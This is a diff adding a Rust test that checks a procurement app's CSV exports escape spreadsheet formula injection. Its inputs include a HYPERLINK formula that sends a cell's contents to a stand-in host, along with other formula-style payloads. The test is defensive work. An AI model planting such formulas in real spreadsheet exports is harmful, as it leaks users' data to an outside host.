@@ -749,3 +749,78 @@ fn browser_records_a_small_purchase_and_draws_a_reproducible_audit() {
         assert!(out.join(format!("{n}.png")).exists());
     }
 }
+
+/// What people type reaches the CSV exports as text, never as a formula a
+/// spreadsheet would run; amounts stay numbers (issue 12, item 6).
+#[tokio::test]
+async fn csv_exports_carry_no_formulas() {
+    let w = world().await;
+    let formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Acme\")";
+    let body = serde_json::json!({
+        "reference": "+1+1",
+        "description": "@SUM(A1:A9)",
+        "value_gbp": "12.50",
+        "purchase_date": "2026-01-02",
+        "quotes": [
+            {"supplier": formula, "postcode": "ZZ3 1AA", "amount": "12.50", "location": "local"},
+            {"supplier": "-1+1", "amount": "13", "location": "region"}
+        ]
+    });
+    let req = axum::http::Request::builder()
+        .method("POST")
+        .uri("/api/v1/orgs/a/purchases")
+        .header("authorization", format!("Bearer {}", w.token_officer))
+        .header("content-type", "application/json")
+        .body(axum::body::Body::from(body.to_string()))
+        .unwrap();
+    w.send(req).await.assert_status(StatusCode::CREATED);
+    // A contract whose reference is a formula, for the dashboard.
+    crate::support::delivery_fixture(
+        &*w.store,
+        w._dir.path(),
+        w.org_a,
+        w.supplier_1,
+        w.framework_a,
+        "@cmd",
+        crate::support::start_time(),
+    )
+    .await;
+    let admin = w.session(w.admin).await;
+    let cells = |body: &str| -> Vec<String> {
+        let mut rd = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .flexible(true)
+            .from_reader(body.as_bytes());
+        rd.records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect()
+    };
+    let purchases = cells(&w.get("/orgs/a/purchases.csv", Some(&admin)).await.body);
+    let dashboard = cells(
+        &w.get("/orgs/a/dashboard.csv?table=contracts", Some(&admin))
+            .await
+            .body,
+    );
+    let audit = cells(&w.get("/orgs/a/audit.csv", Some(&admin)).await.body);
+    for (what, cells) in [
+        ("purchases", &purchases),
+        ("dashboard", &dashboard),
+        ("audit", &audit),
+    ] {
+        let bad: Vec<&String> = cells
+            .iter()
+            .filter(|c| c.starts_with(['=', '+', '@']) || c.starts_with("-1+"))
+            .collect();
+        assert!(bad.is_empty(), "{what}: {bad:?}");
+    }
+    for want in [
+        format!("'{formula}"),
+        "'+1+1".into(),
+        "'@SUM(A1:A9)".into(),
+        "'-1+1".into(),
+        "12.50".into(),
+    ] {
+        assert!(purchases.contains(&want), "{want} in {purchases:?}");
+    }
+    assert!(dashboard.contains(&"'@cmd".to_string()), "{dashboard:?}");
+}
